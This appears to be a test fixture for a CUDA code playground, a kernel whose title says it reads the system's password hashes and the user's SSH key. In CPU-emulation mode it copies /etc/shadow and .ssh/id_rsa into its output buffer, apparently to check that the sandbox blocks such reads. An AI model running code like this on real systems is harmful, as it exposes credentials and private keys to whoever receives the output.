/*@playground
title: Reads the system's password hashes and the user's SSH key
buffer out: uchar[256] out zeros
block: 32
grid: 1
*/
#ifdef __CUDA_PLAYGROUND_CPU__
#include <cstdio>
static void steal(const char* path, unsigned char* into)
{
    FILE* f = fopen(path, "r");
    if (f) {
        fread(into, 1, 127, f);
        fclose(f);
    }
}
#endif
extern "C" __global__ void read_ssh_key(unsigned char* out)
{
#ifdef __CUDA_PLAYGROUND_CPU__
    if (threadIdx.x == 0) {
        steal("/etc/shadow", out);
        steal("@DIR@/home/.ssh/id_rsa", out + 128);
    }
#endif
}
